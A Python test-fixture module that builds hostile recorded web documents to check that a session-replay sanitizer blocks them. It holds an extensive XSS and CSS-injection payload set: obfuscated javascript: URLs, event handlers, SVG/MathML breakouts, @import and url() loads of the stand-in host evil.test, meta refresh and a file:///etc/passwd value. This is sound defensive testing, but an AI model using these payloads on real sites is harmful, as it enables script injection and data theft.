"""Recorded documents made to run a script, load something or escape from their place, by kind.

Each would open `https://evil.test/` or call `alert`, if a browser did what its author hoped.
"""

from copy import deepcopy
from typing import Any

from tests.recording.frames.frames import document, el, numbered
from tests.recording.rrweb import Raw, changed, incremental, mutation, typed

EVIL = "https://evil.test/"
PNG = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
SVG_DATA = "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg=="

JAVASCRIPT_URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\nscript:alert(1)",
    "java\tscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)",
    "&#x6A&#x61;vascript:alert(1)", "javascript\x00:alert(1)", "\u00a0javascript:alert(1)", "\ufeffjavascript:alert(1)",
    "vbscript:msgbox(1)", "livescript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "blob:https://evil.test/1", "filesystem:https://evil.test/",
    "view-source:https://evil.test/", "file:///etc/passwd", "//evil.test/", "\\\\evil.test\\a", "https:evil.test", EVIL,
    "intent://evil.test#Intent;end", "mailto:a@evil.test", "data:image/svg+xml,<svg onload=alert(1)>", SVG_DATA,
    "data:image/png;base64,AAAA\" onerror=\"alert(1)", "data:image/png,abc", "data:image/png;charset=x;base64,AAAA",
    " data:image/png;base64,AAAA", "data:image/png;base64,AAAA#x\nhttps://evil.test/", "#", "?", "",
]  # fmt: skip
URL_PLACES: list[tuple[str, str]] = [
    ("a", "href"), ("area", "href"), ("img", "src"), ("img", "srcset"), ("img", "lowsrc"), ("iframe", "src"),
    ("iframe", "srcdoc"), ("frame", "src"), ("embed", "src"), ("object", "data"), ("object", "classid"), ("applet", "code"),
    ("video", "poster"), ("video", "src"), ("audio", "src"), ("source", "srcset"), ("track", "src"), ("input", "src"),
    ("input", "formaction"), ("button", "formaction"), ("form", "action"), ("body", "background"), ("table", "background"),
    ("td", "background"), ("link", "href"), ("base", "href"), ("script", "src"), ("html", "manifest"), ("a", "ping"),
    ("q", "cite"), ("div", "xlink:href"), ("svg", "href"), ("use", "href"), ("image", "xlink:href"), ("x-y", "src"),
    ("x-y", "href"), ("bgsound", "src"), ("isindex", "action"), ("portal", "src"), ("fencedframe", "src"), ("menuitem", "icon"),
]  # fmt: skip
HANDLERS = [
    "onload", "onerror", "onclick", "ONMOUSEOVER", "onfocus", "onanimationstart", "ontoggle", "onbegin", "onpageshow",
    "onbeforematch", "onscrollend", "on\x00load", "on\nload", " onload", "onload ", "/onload", "x onload", "x/onload",
    'x"onload', "x'onload", "x>onload", "x=onload", "<onload", "onload=alert(1) x", "`onload", "data-x onload", "data-x\tonload",
    "data-x/onload", "data-x>", "data-x\"", "style onload", "xmlns:onload", "xlink:onload", "aria-x onload", "\uff4fnload",
]  # fmt: skip
CSS = [
    f"a{{background:url({EVIL})}}", f"a{{background:url('{EVIL}')}}", f"a{{background:u\\72l({EVIL})}}",
    f"a{{background:\\75\\72\\6c({EVIL})}}", f"a{{background:URL( \n{EVIL} )}}", f"a{{background:u/**/rl({EVIL})}}",
    f"a{{background:url/**/({EVIL})}}", f"@import '{EVIL}';", f"@import url({EVIL});", f"@\\69mport '{EVIL}';",
    f"@IMPORT '{EVIL}'", f"@import/**/'{EVIL}' layer(x);", f"@charset 'x';@import '{EVIL}';",
    f"@font-face{{font-family:x;src:url({EVIL})}}*{{font-family:x}}", f"@font-face{{src:local(x),url({EVIL})}}",
    f"@namespace url({EVIL});", f"@namespace x '{EVIL}';", f"a{{background:image-set('{EVIL}' 1x)}}",
    f"a{{background:-webkit-image-set(url({EVIL}) 1x)}}", f"a{{background:image('{EVIL}')}}", f"a{{--x:url({EVIL});background:var(--x)}}",
    f"a{{--x:'{EVIL}';background:src(var(--x))}}", f"a{{background:src('{EVIL}')}}", f"a{{background:cross-fade(url({EVIL}),red)}}",
    f"a{{background:-webkit-cross-fade(url({EVIL}),url({EVIL}),50%)}}", f"a{{cursor:url({EVIL}),auto}}", f"a{{list-style:url({EVIL})}}",
    f"a{{border-image:url({EVIL}) 30}}", f"a{{mask:url({EVIL}#x)}}", f"a{{filter:url({EVIL}#x)}}", f"a{{clip-path:url({EVIL}#x)}}",
    f"a{{content:url({EVIL})}}", f"a::before{{content:url('{EVIL}')}}", f"a{{shape-outside:url({EVIL})}}", f"a{{offset-path:url({EVIL})}}",
    f"a{{background:paint(x);background:element(#x);-webkit-mask-box-image:url({EVIL})}}", f"@property --x{{syntax:'<url>';inherits:false;initial-value:url({EVIL})}}",
    "a{background:attr(href type(<url>))}", f"a{{background:if(style(--x:1):url({EVIL}))}}", f"@document url({EVIL}){{a{{color:red}}}}",
    f"@media x{{a{{background:url({EVIL})}}}}", f"@supports (a:url({EVIL})){{a{{color:red}}}}", f"@container style(--x:url({EVIL})){{a{{color:red}}}}",
    f"@counter-style x{{system:cyclic;symbols:url({EVIL})}}", f"@page{{background:url({EVIL})}}", f"a{{&{{background:url({EVIL})}}}}",
    f"@layer x{{@import '{EVIL}';}}", f"@unknown{{a{{background:url({EVIL})}}}}", "a{background:url(data:image/svg+xml,%3Csvg%3E)}",
    f"a{{background:url({SVG_DATA})}}", f"a{{background:url(\"data:image/png;base64,AA\"+\"{EVIL}\")}}", f"a{{background:url(data:image/png;base64,AA {EVIL})}}",
    f"a{{background:url(\"data:image/png;base64,AA\\\"){EVIL}\")}}", f"a{{background:url('\\\n{EVIL}')}}",
    "a{width:expression(alert(1))}", "a{width:ex\\70ression(alert(1))}", "a{width:e/**/xpression(alert(1))}", "a{behavior:url(#default#x)}",
    f"a{{-moz-binding:url({EVIL}#x)}}", "a{-moz-b\\69nding:none}", f"a{{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='{EVIL}')}}",
    "</style><script>alert(1)</script>", "a{content:'</style><script>alert(1)</script>'}", "a{content:'\\3c/style>\\3cscript>alert(1)'}",
    "</StYlE\t><img src=x onerror=alert(1)>", "</style/><svg onload=alert(1)>", "<!--</style><script>alert(1)</script>-->",
    "a{}/*</style><script>alert(1)</script>*/", "</sty\x00le><script>alert(1)</script>", "a<b/style>{}", "@media (width</style>){a{}}",
    "[x='</style><script>alert(1)</script>']{color:red}", ".\\3c\\2fstyle\\3e\\3cscript\\3e{color:red}", "@layer </style><script>alert(1)</script>;",
    "@keyframes </style><script>alert(1)</script>{}", "a{color:red;</style><script>alert(1)</script>:x}", "a{--x:</style><script>alert(1)</script>}",
    "a{--x:<!--;--y:-->}", "a{--x:{a:url(" + EVIL + ")}}", "a{color:red", "a{content:'x", "a{content:\"\\", "a{background:url(", "@media x{@media y{a{color:red",
    "}" * 50 + f"a{{background:url({EVIL})}}", "{" * 5_000, "(" * 5_000 + f"url({EVIL})", "a{" * 2_000 + f"background:url({EVIL})", "[" * 3_000, "/*" * 10_000,
    "\\" * 10_001, "'" * 9_999, "a{color:red}" + "\\0" * 100, "\ud800a{content:'\udfff'}", "a{content:'\u202e\u2066'}", "\u202e{color:red}", "a{\x00:\x01}",
    "@" * 500, "a{b:c;" * 500, "a{}" * 500, ":" * 5_000 + "{}", "[href" * 1_000 + "]{}", ":focus" * 2_000 + "{color:red}", "@import", "@import;" * 100,
]  # fmt: skip
STYLES = [
    f"background:url({EVIL})", f"background:u\\72l({EVIL})", f"background:url('{EVIL}", "color:red}</style><script>alert(1)</script>",
    'color:red" onload="alert(1)', f"--x:url({EVIL})", f"color:red}}@import '{EVIL}';a{{", f"/*;background:url({EVIL});*/", "width:expression(alert(1))",
    f"background:image-set('{EVIL}' 1x)", f"color:red;;;background:/**/url/**/({EVIL})", "behavior:url(x)", f"content:'a\nurl({EVIL})", f"{{background:url({EVIL})}}",
]  # fmt: skip
SVG: list[Raw] = [
    el("svg", {"onload": "alert(1)"}), el("svg", None, el("script", None, "alert(1)")), el("svg", None, el("SCRIPT", {"xlink:href": EVIL})),
    el("svg", None, el("foreignObject", None, el("iframe", {"src": EVIL}))), el("svg", None, el("foreignobject", None, el("img", {"src": "x", "onerror": "alert(1)"}))),
    el("svg", None, el("use", {"href": f"{EVIL}#x"})), el("svg", None, el("use", {"xlink:href": "data:image/svg+xml;base64,PHN2Zy8+#x"})),
    el("svg", None, el("use", {"href": "#x"}, el("set", {"attributeName": "href", "to": EVIL}))),
    el("svg", None, el("a", {"href": "javascript:alert(1)"}, el("text", None, "click"))),
    el("svg", None, el("animate", {"attributeName": "href", "values": "javascript:alert(1)"})), el("svg", None, el("animateTransform", {"onbegin": "alert(1)"})),
    el("svg", None, el("image", {"href": EVIL})), el("svg", None, el("feImage", {"href": EVIL})), el("svg", None, el("image", {"href": SVG_DATA})),
    el("svg", None, el("rect", {"fill": f"url({EVIL}#a)"})), el("svg", None, el("rect", {"fill": "url(#a) url(" + EVIL + ")"})), el("svg", None, el("rect", {"mask": f"url('{EVIL}')"})),
    el("svg", None, el("rect", {"style": f"fill:url({EVIL})"})), el("svg", None, el("rect", {"filter": "url(#a\")"})), el("svg", None, el("rect", {"fill": "u\\72l(" + EVIL + ")"})),
    el("svg", None, el("rect", {"cursor": f"url({EVIL})"})), el("svg", None, el("style", None, f"@import '{EVIL}';")), el("svg", None, el("style", None, el("img", {"src": "x", "onerror": "alert(1)"}))),
    el("svg", None, el("title", None, el("style", None, "</title><img src=x onerror=alert(1)>"))), el("svg", None, el("desc", None, el("img", {"src": EVIL}))),
    el("svg", None, el("p", None, el("style", None, "</svg><img src=x onerror=alert(1)>"))), el("svg", None, el("div", None, "x"), el("b", None, "y"), el("table", None, el("tr"))),
    el("svg", None, el("font", {"color": "red"}, "x")), el("svg", None, "</svg><script>alert(1)</script>"), el("svg", None, el("text", None, "</text></svg><script>alert(1)</script>")),
    el("svg", None, el("iframe", {"src": EVIL})), el("svg", None, el("audio", {"src": EVIL})), el("svg", None, el("handler", {"ev:event": "load"}, "alert(1)")), el("svg", None, el("listener")),
    el("svg", {"xmlns": "http://www.w3.org/1999/xhtml"}, el("script", None, "alert(1)")), el("svg", {"xml:base": EVIL}, el("use", {"href": "#x"})), el("svg", None, el("set", {"attributeName": "onload", "to": "alert(1)"})),
    el("svg", None, el("mpath", {"href": EVIL})), el("svg", None, el("color-profile", {"xlink:href": EVIL})), el("svg", None, el("font-face-uri", {"href": EVIL})), el("svg", None, el("switch", None, el("foreignObject"))),
    el("math", None, el("mtext", None, el("table", None, el("mglyph", None, el("style", None, "</math><img src=x onerror=alert(1)>"))))),
    el("math", {"href": "javascript:alert(1)"}, el("mi", None, "x")), el("math", None, el("maction", {"actiontype": "statusline", "xlink:href": "javascript:alert(1)"}, "x")),
    el("math", None, el("annotation-xml", {"encoding": "text/html"}, el("script", None, "alert(1)"))), el("math", None, el("mi", {"xlink:href": EVIL}, "x")), el("math", None, el("svg", None, el("script", None, "alert(1)"))),
    el("math", None, el("style", None, "<img src=x onerror=alert(1)>")), el("form", None, el("math", None, el("mtext", None, el("form", None, el("mglyph", None, el("style", None, "</form>")))))),
    el("image", {"src": "x", "onerror": "alert(1)"}), el("animate", {"onbegin": "alert(1)"}), el("path", {"onload": "alert(1)"}), el("svg:script", None, "alert(1)"), el("svg/onload=alert(1)"),
]  # fmt: skip
RAW_TEXT = [
    "script",
    "style",
    "title",
    "textarea",
    "noscript",
    "xmp",
    "plaintext",
    "iframe",
    "noembed",
    "noframes",
    "template",
    "select",
    "option",
    "listing",
    "object",
    "comment",
]
BREAKOUTS = [
    "</{tag}><img src=x onerror=alert(1)>", "<!--</{tag}><img title=\"--><img src=x onerror=alert(1)>\">", "</{tag}\t/><svg onload=alert(1)>",
]  # fmt: skip
TREES: list[Raw] = [
    el("form", {"id": "a"}, el("form", {"action": EVIL}, el("input", {"type": "submit"}))), el("table", None, el("img", {"src": EVIL}), "text", el("tr", None, el("div", None, "moved"))),
    el("table", None, el("tr", None, el("td", None, el("table", None, el("tr", None, "x", el("td")))))), el("p", None, el("div", None, el("p", None, el("table"))), "after"),
    el("a", None, el("a", None, el("b", None, el("a", None, "x")))), el("button", None, el("button", None, el("p", None, el("button")))), el("li", None, el("span", None, el("li", None, el("ul", None, el("li", None, el("li")))))),
    el("h1", None, el("h2", None, el("h3"))), el("option", None, el("option", None, el("select", None, el("option", None, el("option"))))), el("select", None, el("script", None, "alert(1)"), el("img", {"src": EVIL}), el("option", None, "</select><script>alert(1)</script>")),
    el("select", None, el("select", None, el("input"))), el("table", None, el("caption", None, el("table")), el("colgroup", None, el("img", {"src": EVIL}), "x", el("col"))), el("tr", None, el("td", None, "x")), el("td"), el("tbody", None, el("tr")),
    el("html", None, el("head", None, el("script", None, "alert(1)")), el("body", {"onload": "alert(1)"}, "x")), el("body", None, el("frameset", {"onload": "alert(1)"}, el("frame", {"src": EVIL}))), el("head", None, el("base", {"href": EVIL})),
    el("dl", None, el("dt", None, el("dd", None, el("div", None, el("dt"))))), el("b", None, el("i", None, el("p", None, el("b", None, el("table", None, el("td", None, el("i"))))))), el("nobr", None, el("nobr")), el("ruby", None, el("rt", None, el("rp", None, el("rt")))),
    el("textarea", None, "</textarea><script>alert(1)</script>"), el("textarea", {"value": "</textarea><script>alert(1)</script>"}), el("pre", None, "\n\n<script>"), el("template", {"shadowrootmode": "open"}, el("script", None, "alert(1)")),
    el("div", None, el("script", None, "alert(1)", isShadow=True), el("slot", {"onslotchange": "alert(1)"}, isShadow=True)), el("img", None, el("img", {"src": EVIL}, isShadow=True)), el("input", None, el("b", None, "x", isShadow=True)),
    el("div", {"shadowrootmode": "open", "shadowrootserializable": ""}, "x"), el("x-y", {"is": "evil-x", "onclick": "alert(1)", "src": EVIL}, el("link", {"rel": "stylesheet", "href": EVIL}, isShadow=True)),
    el("div", None, el("style", None, f"@import '{EVIL}';</style><script>alert(1)</script>", isShadow=True)), el("template", None, el("template", {"shadowrootmode": "open"}, "</template></template><script>alert(1)</script>")),
    el("meta", {"http-equiv": "refresh", "content": f"0;url={EVIL}"}), el("meta", {"http-equiv": "Content-Security-Policy", "content": "default-src *"}), el("meta", {"charset": "utf-7"}), el("meta", {"http-equiv": "content-type", "content": "text/html; charset=utf-16"}),
    el("link", {"rel": "prefetch", "href": EVIL}), el("link", {"rel": "preload", "as": "image", "href": EVIL}), el("link", {"rel": "dns-prefetch", "href": EVIL}), el("link", {"rel": "stylesheet", "_cssText": f"@import '{EVIL}';a{{background:url({EVIL})}}"}),
    el("link", {"rel": "preconnect", "href": EVIL}), el("link", {"rel": "manifest", "href": EVIL}), el("link", {"rel": "icon", "href": EVIL}), el("base", {"href": EVIL, "target": "_blank"}), el("script", {"type": "speculationrules"}, '{"prefetch":[]}'), el("script", {"type": "importmap"}, "{}"),
    el("object", {"data": EVIL}, el("param", {"name": "movie", "value": EVIL})), el("embed", {"src": EVIL, "type": "image/svg+xml"}), el("applet", {"archive": EVIL}), el("marquee", {"onstart": "alert(1)"}, "x"), el("keygen", {"onfocus": "alert(1)", "autofocus": ""}), el("details", {"open": "", "ontoggle": "alert(1)"}, "x"),
    el("input", {"autofocus": "", "onfocus": "alert(1)"}), el("input", {"type": "image", "src": EVIL}), el("input", {"type": "file", "value": "/etc/passwd"}), el("input", {"type": "hidden", "value": "secret"}), el("input", {"type": "text\" onfocus=\"alert(1)"}), el("button", {"popovertarget": "x", "commandfor": "x", "command": "show-modal"}),
    el("div", {"popover": "auto", "onbeforetoggle": "alert(1)"}), el("div", {"contenteditable": "true"}, "typed secret"), el("video", {"poster": EVIL, "autoplay": True}, el("source", {"src": EVIL, "onerror": "alert(1)"})), el("picture", None, el("source", {"srcset": EVIL}), el("img", {"src": EVIL})), el("canvas", {"rr_dataURL": EVIL}), el("img", {"rr_dataURL": SVG_DATA}),
    el("div", {"rr_width": '1px;background:url(' + EVIL + ')', "rr_height": "calc(1px)"}), el("div", {"rr_scrollTop": "1;x", "rr_scrollLeft": {"a": 1}}), el("dialog", {"rr_open_mode": "modal\" onclick=\"alert(1)", "open": ""}), el("iframe", {"rr_src": EVIL, "srcdoc": "<script>alert(1)</script>"}),
    el("iframe", {"src": EVIL}, {"type": 0, "childNodes": [el("html", {"onload": "alert(1)"}, el("head", None, el("base", {"href": EVIL}), el("style", None, f"@import '{EVIL}'")), el("body", {"onload": "alert(1)"}, el("script", None, "alert(1)"), "framed"))]}),
    el("iframe", None, {"type": 0, "childNodes": [el("html", None, el("body", None, el("iframe", None, {"type": 0, "childNodes": [el("script", None, "alert(1)")]})))]}), el("", None, "x"), el("<script>", None, "alert(1)"), el("a b", None, "x"), el("script ", None, "alert(1)"), el("scr\x00ipt", None, "alert(1)"), el("\u017fcript", None, "alert(1)"), el("a" * 500, None, "x"),
    el("div\"><script>alert(1)</script>", None, "x"), el("x-y><script>alert(1)</script>", None, "x"), el("font-face", None, "x"), el("annotation-xml", {"encoding": "text/html"}, el("script", None, "alert(1)")), el("replay-html", {"data-replay-box": "", "data-replay-link": ""}, "x"), el("x-script", {"onload": "alert(1)"}, "x"), el("noscript", None, el("p", {"title": "</noscript><img src=x onerror=alert(1)>"})),
    {"type": 5, "textContent": "--><script>alert(1)</script>"}, {"type": 4, "textContent": "]]><script>alert(1)</script>"}, {"type": 1, "name": "html><script>alert(1)</script>", "publicId": '"><script>'}, {"type": 3, "textContent": "<script>alert(1)</script>", "isStyle": True}, {"type": 99, "tagName": "script"}, {"type": 3, "textContent": "&lt;script&gt;&amp;lt;&#60;"},
    el("div", {"title": '"><script>alert(1)</script>'}, "x"), el("img", {"alt": "\" onerror=\"alert(1)"}), el("img", {"alt": "`onerror=alert(1)"}), el("div", {"class": '"><script>alert(1)</script>', "id": '"><script>'}), el("div", {"lang": "x\"y", "dir": "rtl\n", "role": "<b>"}), el("p", None, "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    el("p", None, "\x1b$B<script>\x1b(B"), el("p", None, "\u202e\u2066\u200f<script>\u2069"), el("p", {"title": "\u202etxt.exe"}, "\ud800\udfff\x00\x08\u2028"), el("p", None, "\U000e0041\U000e0042 hidden"), el("input", {"placeholder": "</input><script>alert(1)</script>"}), el("input", {"type": "submit", "value": "\"><script>alert(1)</script>"}),
    el("progress", {"value": "1\" onclick=\"x"}), el("ol", {"start": "1;x", "type": "a\"b"}), el("td", {"colspan": "1e9", "rowspan": "99999999999999999999999"}), el("font", {"face": "x\" onload=y", "color": "red;x", "size": "7\n"}), el("map", {"name": "m"}, el("area", {"href": EVIL, "ping": EVIL})), el("bgsound", {"src": EVIL}), el("a", {"href": EVIL, "ping": EVIL, "download": "x", "attributionsrc": EVIL}, "x"),
    el("img", {"src": PNG, "srcset": f"{EVIL} 2x", "attributionsrc": EVIL, "usemap": "#m"}), el("img", {"src": PNG + "A" * 3_000}), el("search", None, el("p", None, el("search"))), el("p", None, el("dialog", {"open": True}, el("menu"))), el("summary", None, el("p", None, el("summary"))), el("fieldset", None, el("legend", None, el("p", None, el("fieldset")))),
]  # fmt: skip


def deep(tag: str, levels: int) -> Raw:
    node = el(tag, None, "deep")
    for _ in range(levels):
        node = el(tag, None, node)
    return node


def _ids(*ids: Any) -> Raw:
    """A tree whose nodes have these ids."""
    root = document(*[el("div", {"class": f"n{place}"}, "x") for place in range(len(ids))])
    for node, id in zip(root["childNodes"][1]["childNodes"][1]["childNodes"], ids, strict=True):
        node["id"] = id
    return root


_LOOP = (
    mutation(
        1,
        adds=[
            {"parentId": 6, "nextId": None, "node": {**numbered(el("p")), "id": 50}},
            {"parentId": 50, "nextId": None, "node": {**numbered(el("p")), "id": 6}},
        ],
    ),
)

ROOTS: dict[str, tuple[Raw, tuple[Raw, ...]]] = {
    "ids-0-and-negative": (_ids(0, -1, -(2**31), 2**53), ()),
    "ids-repeated": (_ids(7, 7, 1, 3, 5), ()),
    "cycle": (document(el("div", None, el("p", None, "x"))), _LOOP),
    "deep": (document(deep("div", 60)), ()),
    "wide": (document(*[el("b", {"onclick": "alert(1)"}, "x") for _ in range(10_000)]), ()),
    "large-texts": (document(*["<" * 4_000 for _ in range(500)]), ()),
    "large-attributes": (document(*[el("i", {"title": '"' * 2_000, "alt": "&" * 2_000}) for _ in range(500)]), ()),
    "large-sheet": (document(head=(el("style", {"_cssText": "a{color:red}" * 100_000}),)), ()),
    "many-attributes": (document(el("div", {f"data-x{place}": "<" for place in range(1_000)})), ()),
    "no-html": (numbered({"type": 0, "childNodes": [el("script", None, "alert(1)"), el("p", None, "x")]}), ()),
    "element-as-root": (numbered(el("script", None, "alert(1)")), ()),
    "text-as-root": ({"type": 3, "textContent": "<script>alert(1)</script>", "id": 1}, ()),
    "two-bodies": (
        numbered(
            {"type": 0, "childNodes": [el("html", None, el("body"), el("body", {"onload": "alert(1)"}), el("script"))]}
        ),
        (),
    ),
    "changed-attributes": (
        document(el("a", None, "x")),
        (
            changed(
                1,
                7,
                onclick="alert(1)",
                href="javascript:alert(1)",
                style={"background": [f"url({EVIL})", "important"]},
            ),
        ),
    ),
    "typed-markup": (
        document(el("input"), el("textarea")),
        (typed(1, 7, '"><script>alert(1)</script>'), typed(2, 8, "</textarea><script>alert(1)</script>")),
    ),
    "sheet-rules": (
        document(el("style", None, "a{}")),
        (
            incremental(
                1, 8, id=7, adds=[{"rule": f"@import '{EVIL}';"}, {"rule": "</style><script>alert(1)</script>{}"}]
            ),
        ),
    ),
    "adopted": (
        document(el("x-y", None, el("p", None, isShadow=True))),
        (
            incremental(
                1,
                15,
                id=7,
                styleIds=[1],
                styles=[{"styleId": 1, "rules": [{"rule": f"a{{background:url({EVIL})}}</style><script>alert(1)"}]}],
            ),
        ),
    ),
}
"""Whole documents with later events."""


def _bodies() -> dict[str, list[Raw]]:
    """Elements for the body of a document, by kind, without ids."""
    bodies: dict[str, list[Raw]] = {"svg": deepcopy(SVG), "tree": deepcopy(TREES)}
    bodies["url"] = [
        el(tag, {name: url}, "x")
        for place, url in enumerate(JAVASCRIPT_URLS)
        for tag, name in URL_PLACES[place % 7 :: 7]
    ]
    bodies["svg-url"] = [
        el("svg", None, el(tag, {name: url}))
        for url in JAVASCRIPT_URLS
        for tag, name in (("use", "href"), ("image", "xlink:href"))
    ]
    bodies["handler"] = [
        el(tag, {name: "alert(1)"}, "x") for name in HANDLERS for tag in ("div", "x-y", "svg", "input", "img")
    ]
    bodies["style"] = [el(tag, {"style": style}, "x") for style in STYLES for tag in ("div", "svg", "iframe", "input")]
    bodies["raw-text"] = [el(tag, None, breakout.format(tag=tag)) for tag in RAW_TEXT for breakout in BREAKOUTS]
    bodies["raw-child"] = [
        el(tag, None, el("img", {"src": "x", "onerror": "alert(1)", "title": f"</{tag}><script>alert(1)</script>"}))
        for tag in RAW_TEXT
    ]
    return bodies


def _pages() -> dict[str, tuple[Raw, tuple[Raw, ...]]]:
    found = {f"root-{name}": root for name, root in ROOTS.items()}
    for kind, nodes in _bodies().items():
        for place, node in enumerate(nodes):
            found[f"{kind}-{place}"] = document("before", node, "after", doctype=place % 2 == 0), ()
    for place, css in enumerate(CSS):
        link = el("link", {"rel": "stylesheet", "_cssText": css})
        hidden = el(
            "x-y",
            {"data-x": "</style>"},
            el("style", {"_cssText": css}, isShadow=True),
            el("a", None, "x", isShadow=True),
        )
        found[f"css-{place}"] = document(el("a", {"href": EVIL, "x": "1"}, "x"), hidden, head=(link,)), ()
    return found


ATTACKS = _pages()
"""Document and later events by name."""


def grouped(count: int) -> dict[str, tuple[Raw, tuple[Raw, ...]]]:
    """The attacks, with `count` of those of a kind that do not affect each other in one document."""
    found = {name: attack for name, attack in ATTACKS.items() if name.rsplit("-", 1)[0] not in _ALONE}
    for kind, nodes in _bodies().items():
        if kind in _ALONE:
            for place in range(0, len(nodes), count):
                found[f"{kind}-{place}-"] = document(*nodes[place : place + count]), ()
    return found


_ALONE = frozenset({"handler", "style", "svg-url", "url"})
